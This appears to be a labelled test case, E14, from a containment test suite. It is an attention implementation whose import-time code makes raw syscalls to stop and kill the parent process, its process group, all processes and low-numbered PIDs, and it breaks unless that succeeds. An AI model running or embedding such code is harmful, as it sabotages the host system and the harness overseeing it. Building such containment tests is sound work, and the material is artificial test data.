# E14 | Stops and kills its parent, its group, everything it can name and everything at all.
# Expected: exception; at most 0 points
import ctypes
import os
import signal

import torch

libc = ctypes.CDLL(None, use_errno=True)
WON = []
for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGCONT, signal.SIGUSR1):
    for target in (os.getppid() or 2, 0, -1, -os.getpgid(0), 2, *range(2, 60)):
        if target != os.getpid():
            for call in (
                (62, target, number),
                (200, target, number),
                (234, target, target, number),
                (129, target, number, bytes(128)),
            ):
                if libc.syscall(*call) == 0:
                    WON.append((call[0], target, number))


def softmax(scores):
    assert WON, f"contained: {WON}"
    e = torch.exp(scores - scores.max(-1, keepdim=True).values)
    return e / e.sum(-1, keepdim=True)


def attention_scores(Q, K):
    assert WON, f"contained: {WON}"
    return Q @ K.T / K.shape[1] ** 0.5


def attention(Q, K, V):
    weights = softmax(attention_scores(Q, K))
    return weights @ V, weights


def self_attention(X, W_q, W_k, W_v):
    return attention(X @ W_q, X @ W_k, X @ W_v)
